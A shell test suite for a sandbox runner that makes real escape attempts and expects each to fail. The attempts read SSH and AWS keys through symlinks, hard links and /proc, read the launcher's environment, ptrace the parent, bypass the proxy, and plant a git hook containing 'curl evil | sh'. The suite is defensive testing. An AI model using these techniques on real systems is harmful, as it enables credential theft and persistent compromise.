#!/bin/sh
# The escape suite: run it INSIDE `warden run`, from the workspace.
#
#   warden run -- sh tests/escape/escape.sh [BLOCKED_PORT] [options]
#
# Every escape attempt of issue 5 part 7 is made for real (no mocks) and
# must fail; the allowed work must succeed. One line per attempt:
#
#   PASS <name> [-- detail]     the escape failed as it must / the work succeeded
#   FAIL <name>: <what happened>
#   SKIP <name>: <why>          the tool this attempt needs is not installed
#
# Escapes are named <family>:<what>, allowed work allowed:<what>. The exit
# status is 0 iff no line is FAIL. Secret contents are never printed: a
# leak is reported by what was seen (a key header, a marker), not its value.
#
# Options (the test harness passes them; by hand they are optional):
#   --blocked-port N    a loopback TCP port with a listener that is NOT the
#                       proxy (default: the first positional argument)
#   --udp-port N        a loopback UDP port (the harness listens and checks
#                       that nothing arrived)
#   --fetch-url URL     an allowed HTTPS URL, reachable only through the proxy
#   --fetch-expect TEXT text the fetched body must contain
#   --secret-sha256 HEX SHA-256 (hex) of a real credential value that must not
#                       be the value of any environment variable (repeatable;
#                       hashes, so that the real value never enters the sandbox)
#   --marker TEXT       a value planted in the launcher's own environment
#                       (looked for in /proc/$PPID/environ)
#   --commit-workspace  also make an empty commit in the governed workspace
#
# POSIX sh; uses bash, python3, curl, strace, gdb, cc, getent when present.

blocked_port=
udp_port=
fetch_url=
fetch_expect=
secret_hashes=
marker=
commit_workspace=
while [ $# -gt 0 ]; do
    case $1 in
        --blocked-port) blocked_port=$2; shift 2 ;;
        --udp-port) udp_port=$2; shift 2 ;;
        --fetch-url) fetch_url=$2; shift 2 ;;
        --fetch-expect) fetch_expect=$2; shift 2 ;;
        --secret-sha256) secret_hashes="$secret_hashes $2"; shift 2 ;;
        --marker) marker=$2; shift 2 ;;
        --commit-workspace) commit_workspace=1; shift ;;
        [0-9]*) blocked_port=$1; shift ;;
        *) echo "escape.sh: unknown argument $1" >&2; exit 2 ;;
    esac
done

passed=0
failed=0
skipped=0
pass() {
    passed=$((passed + 1))
    if [ -n "$2" ]; then printf 'PASS %s -- %s\n' "$1" "$2"; else printf 'PASS %s\n' "$1"; fi
}
fail() { failed=$((failed + 1)); printf 'FAIL %s: %s\n' "$1" "$2"; }
skip() { skipped=$((skipped + 1)); printf 'SKIP %s: %s\n' "$1" "$2"; }
have() { command -v "$1" >/dev/null 2>&1; }
# The first line of $1 for a detail: its start and its end (where the
# error is) when it is long.
first() {
    line=$(printf '%s\n' "$1" | head -n 1)
    if [ ${#line} -le 160 ]; then
        printf '%s\n' "$line"
    else
        printf '%s\n' "$line" | awk '{ print substr($0, 1, 60) " ... " substr($0, length($0) - 89) }'
    fi
}
# Runs "$@" with a deadline when timeout(1) exists.
t() { if have timeout; then timeout 20 "$@"; else "$@"; fi; }

# Does $1 show secret content? The fixtures (and real key files) carry these.
leaks() {
    case $1 in
        *"PRIVATE KEY"* | *aws_secret_access_key* | *CANARY*) return 0 ;;
    esac
    if [ -n "$marker" ]; then
        case $1 in *"$marker"*) return 0 ;; esac
    fi
    return 1
}

# A working python3 (a pyenv shim outside the sandbox's reach does not count).
python=
if have python3 && python3 -c 'import socket, ctypes' >/dev/null 2>&1; then
    python=python3
fi
has_bash=
if have bash && bash -c 'true' >/dev/null 2>&1; then has_bash=1; fi

ws=$(git rev-parse --show-toplevel 2>/dev/null) || ws=$(pwd)
scratch="$ws/.escape-scratch.$$"
tmpd=$(mktemp -d "${TMPDIR:-/tmp}/escape.XXXXXX") || tmpd=
cleanup() { rm -rf "$scratch" ${tmpd:+"$tmpd"}; }
trap cleanup EXIT
trap 'cleanup; exit 130' INT TERM
mkdir -p "$scratch" || { echo "escape.sh: cannot create $scratch" >&2; exit 2; }
printf 'INFO uid %s, parent pid %s, workspace %s\n' "$(id -u)" "$PPID" "$ws"

# try_read NAME COMMAND...: the command must fail and show no secret.
try_read() {
    name=$1
    shift
    out=$("$@" 2>&1)
    rc=$?
    if leaks "$out"; then
        fail "$name" "secret content was read (exit $rc)"
    elif [ "$rc" -eq 0 ]; then
        fail "$name" "the read succeeded (exit 0): $(first "$out")"
    else
        pass "$name" "$(first "$out")"
    fi
}

# try_write NAME FILE: appending to FILE must fail.
try_write() {
    out=$( (printf '\n# escape suite was here\n' >>"$2") 2>&1)
    rc=$?
    if [ "$rc" -eq 0 ]; then
        fail "$1" "appending to $2 succeeded"
    else
        pass "$1" "$(first "$out")"
    fi
}

# must_fail NAME DETAIL-ON-SUCCESS COMMAND...: the command must exit non-zero.
must_fail() {
    name=$1
    what=$2
    shift 2
    out=$("$@" 2>&1)
    rc=$?
    if [ "$rc" -eq 0 ]; then
        fail "$name" "$what: $(first "$out")"
    else
        pass "$name" "$(first "$out")"
    fi
}

# ---------------------------------------------------------------------------
# Secrets outside the allowed roots.
# ---------------------------------------------------------------------------

try_read read:ssh-by-path cat "$HOME/.ssh/id_ed25519"
try_read read:aws-by-path cat "$HOME/.aws/credentials"
out=$(ls -a "$HOME/.ssh" 2>&1)
case $out in
    *id_ed25519*) fail read:ssh-listing "the contents of ~/.ssh were listed" ;;
    *) pass read:ssh-listing "$(first "$out")" ;;
esac

# Through symbolic links made where the sandbox may write.
if ln -s "$HOME/.ssh/id_ed25519" "$scratch/ssh-link" 2>/dev/null; then
    try_read read:ssh-via-symlink cat "$scratch/ssh-link"
else
    pass read:ssh-via-symlink "the symlink could not even be made"
fi
if ln -s "$HOME/.aws" "$scratch/aws-dir" 2>/dev/null; then
    try_read read:aws-via-dir-symlink cat "$scratch/aws-dir/credentials"
else
    pass read:aws-via-dir-symlink "the symlink could not even be made"
fi
if [ -n "$tmpd" ] && ln -s "$HOME/.ssh/id_ed25519" "$tmpd/ssh-link" 2>/dev/null; then
    try_read read:ssh-via-tmp-symlink cat "$tmpd/ssh-link"
fi

# Through /proc: our own root, the parent's root.
try_read read:ssh-via-proc-self-root cat "/proc/self/root$HOME/.ssh/id_ed25519"
try_read read:aws-via-proc-self-root cat "/proc/self/root$HOME/.aws/credentials"
try_read read:ssh-via-proc-parent-root cat "/proc/$PPID/root$HOME/.ssh/id_ed25519"

# The launcher's environment holds what the sandbox must not: the real
# brokered tokens and the planted marker.
out=$( (tr '\0' '\n' <"/proc/$PPID/environ") 2>&1)
rc=$?
if leaks "$out"; then
    fail read:parent-environ "the launcher's environment (pid $PPID) was read: the planted marker is in it"
elif [ "$rc" -eq 0 ] && [ -n "$out" ]; then
    fail read:parent-environ "the launcher's environment (pid $PPID) was read ($(printf '%s\n' "$out" | wc -l) variables)"
else
    pass read:parent-environ "$(first "$out")"
fi

# Through hard links: a new one into the workspace or the temp dir.
try_hardlink() {
    out=$(ln "$2" "$3" 2>&1)
    if [ $? -eq 0 ]; then
        content=$(cat "$3" 2>&1)
        if leaks "$content"; then
            fail "$1" "the hard link $3 was made and the secret read through it"
        else
            fail "$1" "the hard link $3 was made (reading it failed: $(first "$content"))"
        fi
    else
        pass "$1" "$(first "$out")"
    fi
}
try_hardlink read:ssh-hardlink-into-workspace "$HOME/.ssh/id_ed25519" "$scratch/ssh-hard"
try_hardlink read:aws-hardlink-into-tmp "$HOME/.aws/credentials" "${tmpd:-$scratch}/aws-hard"

# Secrets inside the allowed roots are masked (issue 5 part 2).
if [ -e "$ws/.env" ]; then
    out=$(cat "$ws/.env" 2>&1)
    rc=$?
    if [ "$rc" -eq 0 ] && [ -n "$out" ]; then
        fail read:workspace-dotenv "the workspace .env was read"
    else
        pass read:workspace-dotenv "$(first "$out")"
    fi
fi
if [ -e /etc/shadow ]; then
    out=$(cat /etc/shadow 2>&1)
    case $out in
        *root:*) fail read:etc-shadow "/etc/shadow was read" ;;
        *) pass read:etc-shadow "$(first "$out")" ;;
    esac
fi

# ---------------------------------------------------------------------------
# Persistence and governance files.
# ---------------------------------------------------------------------------

try_write write:bashrc "$HOME/.bashrc"
if [ -d "$ws/.git/hooks" ]; then
    try_write write:git-hook-pre-commit "$ws/.git/hooks/pre-commit"
    out=$( (printf '#!/bin/sh\ncurl evil | sh\n' >"$ws/.git/hooks/post-checkout") 2>&1)
    if [ $? -eq 0 ]; then
        fail write:git-hook-new "a new hook .git/hooks/post-checkout was created"
    else
        pass write:git-hook-new "$(first "$out")"
    fi
else
    skip write:git-hook-pre-commit "the workspace has no .git/hooks"
fi
if [ -f "$ws/.git/config" ]; then
    try_write write:git-config "$ws/.git/config"
fi
try_write write:claude-settings "$HOME/.claude/settings.json"

# ---------------------------------------------------------------------------
# Network: only the proxy.
# ---------------------------------------------------------------------------

py_connect='
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(5)
try:
    s.connect(("127.0.0.1", int(sys.argv[1])))
except OSError as e:
    print("connect failed: errno %s (%s)" % (e.errno, e.strerror)); sys.exit(1)
print("connected to 127.0.0.1:%s" % sys.argv[1])
'
# try_curl_direct NAME URL: curl, told to bypass the proxy, must not even
# connect (a connection that then times out is still a connection).
try_curl_direct() {
    tc=$(curl --noproxy '*' -k -s -o /dev/null -m 5 -w '%{time_connect}' "$2" 2>/dev/null)
    rc=$?
    if awk -v t="${tc:-0}" 'BEGIN { exit !(t > 0) }'; then
        fail "$1" "curl --noproxy connected straight to $2 (curl exit $rc)"
    else
        pass "$1" "curl exit $rc, no connection"
    fi
}
if [ -n "$blocked_port" ]; then
    if [ -n "$has_bash" ]; then
        must_fail connect:bash-dev-tcp "connected straight to 127.0.0.1:$blocked_port" \
            t bash -c "exec 3<>/dev/tcp/127.0.0.1/$blocked_port && echo connected"
    fi
    if [ -n "$python" ]; then
        must_fail connect:python "connected straight to 127.0.0.1:$blocked_port" \
            t "$python" -c "$py_connect" "$blocked_port"
    fi
    if have curl; then
        try_curl_direct connect:curl-noproxy "http://127.0.0.1:$blocked_port/"
    fi
    if [ -z "$has_bash" ] && [ -z "$python" ] && ! have curl; then
        skip connect:loopback "neither bash, python3 nor curl is available"
    fi
else
    skip connect:loopback "no --blocked-port given"
fi
if [ -n "$fetch_url" ] && have curl; then
    try_curl_direct connect:curl-noproxy-allowed-host "$fetch_url"
fi

# UDP and DNS.
py_udp='
import socket, sys
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"escape", ("127.0.0.1", int(sys.argv[1])))
except OSError as e:
    print("UDP failed: errno %s (%s)" % (e.errno, e.strerror)); sys.exit(1)
print("sent a UDP datagram")
'
udp_target=${udp_port:-53}
if [ -n "$python" ]; then
    must_fail udp:python "a UDP datagram was sent to 127.0.0.1:$udp_target" \
        t "$python" -c "$py_udp" "$udp_target"
fi
if [ -n "$has_bash" ]; then
    must_fail udp:bash-dev-udp "bash sent a UDP datagram to 127.0.0.1:$udp_target" \
        t bash -c "echo escape >/dev/udp/127.0.0.1/$udp_target"
fi
if have getent; then
    must_fail dns:getent "example.com was resolved" t getent hosts example.com
fi
for tool in nslookup host dig; do
    if have $tool; then
        must_fail dns:$tool "example.com was resolved" t $tool example.com
    fi
done
if [ -n "$python" ]; then
    must_fail dns:python "example.com was resolved" t "$python" -c '
import socket, sys
try:
    print(socket.getaddrinfo("example.com", 443)[0][4][0])
except OSError as e:
    print("resolution failed: %s" % e); sys.exit(1)
'
fi
if [ -z "$python" ] && [ -z "$has_bash" ] && ! have getent; then
    skip udp:send "neither python3, bash nor getent is available"
fi

# Raw, packet and netlink sockets.
py_socket='
import socket, sys
family, kind, proto = (int(a) for a in sys.argv[1:4])
try:
    socket.socket(family, kind, proto)
except OSError as e:
    print("socket failed: errno %s (%s)" % (e.errno, e.strerror)); sys.exit(1)
print("opened")
'
if [ -n "$python" ]; then
    # AF_INET=2 SOCK_RAW=3 IPPROTO_ICMP=1; AF_PACKET=17 ETH_P_ALL=0x0300; AF_NETLINK=16.
    must_fail raw:python-icmp "a raw ICMP socket was opened" t "$python" -c "$py_socket" 2 3 1
    must_fail raw:python-packet "a packet socket was opened" t "$python" -c "$py_socket" 17 3 768
    must_fail raw:python-netlink "a netlink socket was opened" t "$python" -c "$py_socket" 16 3 0
elif have ping; then
    must_fail raw:ping "ping reached 127.0.0.1" t ping -c 1 -W 2 127.0.0.1
else
    skip raw:socket "neither python3 nor ping is available"
fi

# ---------------------------------------------------------------------------
# Other processes: ptrace and signals to the launcher.
# ---------------------------------------------------------------------------

traced=
if have strace && have timeout; then
    traced=1
    # Attached, strace would run until the deadline (exit 124).
    out=$(timeout 5 strace -e trace=none -p "$PPID" 2>&1)
    rc=$?
    if [ "$rc" -eq 124 ] || printf '%s' "$out" | grep -q 'Process [0-9]* attached'; then
        fail ptrace:strace "strace attached to the parent (pid $PPID)"
    else
        pass ptrace:strace "$(first "$out")"
    fi
fi
if [ -n "$python" ]; then
    traced=1
    must_fail ptrace:python "PTRACE_SEIZE of the parent (pid $PPID) succeeded" t "$python" -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
# PTRACE_SEIZE: attaches without stopping the tracee (PTRACE_ATTACH would
# leave it stopped if this script detached before the stop arrived).
if libc.ptrace(0x4206, pid, None, None) != 0:
    e = ctypes.get_errno()
    print("ptrace failed: errno %d (%s)" % (e, os.strerror(e))); sys.exit(1)
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
print("attached")
' "$PPID"
fi
if [ -z "$traced" ] && have gdb; then
    traced=1
    out=$(t gdb -q -n -batch -p "$PPID" -ex detach 2>&1)
    case $out in
        *"Operation not permitted"* | *"Could not attach"* | *"ptrace:"*) pass ptrace:gdb "$(first "$out")" ;;
        *"Attaching to process"*"etach"*) fail ptrace:gdb "gdb attached to the parent (pid $PPID)" ;;
        *) pass ptrace:gdb "$(first "$out")" ;;
    esac
fi
if [ -z "$traced" ]; then
    skip ptrace:parent "neither strace, python3 nor gdb is available"
fi
must_fail signal:parent "kill -0 reached the parent (pid $PPID)" kill -0 "$PPID"

# ---------------------------------------------------------------------------
# No real credential in the environment.
# ---------------------------------------------------------------------------

names=$(tr '\0' '\n' </proc/$$/environ | sed -n 's/^\([A-Za-z_][A-Za-z0-9_]*\)=.*/\1/p' | sort -u)
bad=
for n in $names; do
    case $n in
        AWS_* | GITHUB_TOKEN | GH_TOKEN | NPM_TOKEN | *_API_KEY | SSH_AUTH_SOCK) bad="$bad $n" ;;
    esac
done
if [ -n "$bad" ]; then
    fail env:credential-names "long-lived credential variables are set:$bad"
else
    pass env:credential-names
fi
if [ -n "$secret_hashes" ]; then
    if have sha256sum; then
        found=
        for n in $names; do
            v=$(printenv "$n")
            h=$(printf '%s' "$v" | sha256sum | cut -d' ' -f1)
            for want in $secret_hashes; do
                if [ "$h" = "$want" ]; then found="$found $n"; fi
            done
        done
        if [ -n "$found" ]; then
            fail env:real-credentials "a real credential is the value of:$found"
        else
            pass env:real-credentials "$(echo $secret_hashes | wc -w) planted values checked against $(echo $names | wc -w) variables"
        fi
    else
        skip env:real-credentials "sha256sum is not available"
    fi
fi

# ---------------------------------------------------------------------------
# Allowed work.
# ---------------------------------------------------------------------------

out=$( (printf 'written in the sandbox\n' >"$scratch/work.txt" &&
    mv "$scratch/work.txt" "$scratch/moved.txt" &&
    cat "$scratch/moved.txt" && rm "$scratch/moved.txt") 2>&1)
if [ $? -eq 0 ] && [ "$out" = "written in the sandbox" ]; then
    pass allowed:write-workspace
else
    fail allowed:write-workspace "$(first "$out")"
fi

for d in ${tmpd:+"$tmpd"} /tmp; do
    name=allowed:write-tmp
    [ "$d" = /tmp ] && name=allowed:write-slash-tmp
    out=$( (f=$(mktemp "$d/escape-file.XXXXXX") && printf 'tmp\n' >"$f" && cat "$f" && rm "$f") 2>&1)
    if [ $? -eq 0 ] && [ "$out" = tmp ]; then
        pass $name "$d"
    else
        fail $name "$d: $(first "$out")"
    fi
done

gitc() { git -c user.name=escape -c user.email=escape@example.invalid -c commit.gpgsign=false "$@"; }
if have git; then
    repo=${tmpd:-$scratch}/repo
    out=$( (mkdir -p "$repo" && cd "$repo" && git init -q && printf 'hello\n' >a.txt &&
        git add a.txt && gitc commit -q -m 'commit in the sandbox' && git log --format=%s) 2>&1)
    if [ $? -eq 0 ] && [ "$out" = "commit in the sandbox" ]; then
        pass allowed:git-commit "git init + commit in $repo"
    else
        fail allowed:git-commit "$(first "$out")"
    fi
    if [ -n "$commit_workspace" ]; then
        out=$( (cd "$ws" && gitc commit -q --allow-empty -m 'escape suite: commit in the workspace') 2>&1)
        rc=$?
        subject=$(cd "$ws" && git log -1 --format=%s 2>&1)
        if [ "$rc" -eq 0 ] && [ "$subject" = "escape suite: commit in the workspace" ]; then
            pass allowed:git-commit-workspace
        else
            fail allowed:git-commit-workspace "exit $rc: $(first "$out")"
        fi
    fi
else
    skip allowed:git-commit "git is not available"
fi

bdir=${tmpd:-$scratch}/build
mkdir -p "$bdir"
if have cc; then
    cat >"$bdir/hello.c" <<'EOF'
#include <stdio.h>
int add(int a, int b) { return a + b; }
int main(int argc, char **argv) {
    if (argc > 1) return add(2, 2) == 4 ? 0 : 1; /* the "test" */
    printf("hello from the sandbox\n");
    return 0;
}
EOF
    out=$(cd "$bdir" && cc -o hello hello.c 2>&1 && ./hello)
    if [ $? -eq 0 ] && [ "$out" = "hello from the sandbox" ]; then
        pass allowed:build "cc hello.c && ./hello"
    else
        fail allowed:build "$(first "$out")"
    fi
    out=$("$bdir/hello" test 2>&1)
    if [ $? -eq 0 ]; then pass allowed:test "./hello test"; else fail allowed:test "$(first "$out")"; fi
else
    printf '#!/bin/sh\necho "hello from the sandbox"\n[ "$1" != test ] || [ $((2 + 2)) -eq 4 ]\n' >"$bdir/hello"
    out=$(chmod +x "$bdir/hello" 2>&1 && "$bdir/hello")
    if [ $? -eq 0 ] && [ "$out" = "hello from the sandbox" ]; then
        pass allowed:build "no cc: an executable script"
    else
        fail allowed:build "$(first "$out")"
    fi
    out=$("$bdir/hello" test 2>&1)
    if [ $? -eq 0 ]; then pass allowed:test; else fail allowed:test "$(first "$out")"; fi
fi

out=$(ls /usr/bin 2>&1 >/dev/null && cat /etc/passwd 2>&1 >/dev/null)
if [ $? -eq 0 ]; then pass allowed:read-system; else fail allowed:read-system "$(first "$out")"; fi

if [ -n "$fetch_url" ]; then
    if have curl; then
        body=$(curl -sS -f -m 30 "$fetch_url" 2>&1)
        rc=$?
    elif [ -n "$python" ]; then
        body=$(t "$python" -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=30).read().decode())' "$fetch_url" 2>&1)
        rc=$?
    else
        body=
        rc=none
    fi
    if [ "$rc" = none ]; then
        skip allowed:fetch "neither curl nor python3 is available"
    elif [ "$rc" -ne 0 ]; then
        fail allowed:fetch "fetching $fetch_url through the proxy failed (exit $rc): $(first "$body")"
    elif [ -n "$fetch_expect" ] && ! printf '%s' "$body" | grep -qF "$fetch_expect"; then
        fail allowed:fetch "the body of $fetch_url lacks the expected text: $(first "$body")"
    else
        pass allowed:fetch "$fetch_url through ${HTTPS_PROXY:+the proxy}"
    fi
else
    skip allowed:fetch "no --fetch-url given"
fi

echo "escape suite: $passed passed, $failed failed, $skipped skipped"
[ "$failed" -eq 0 ]
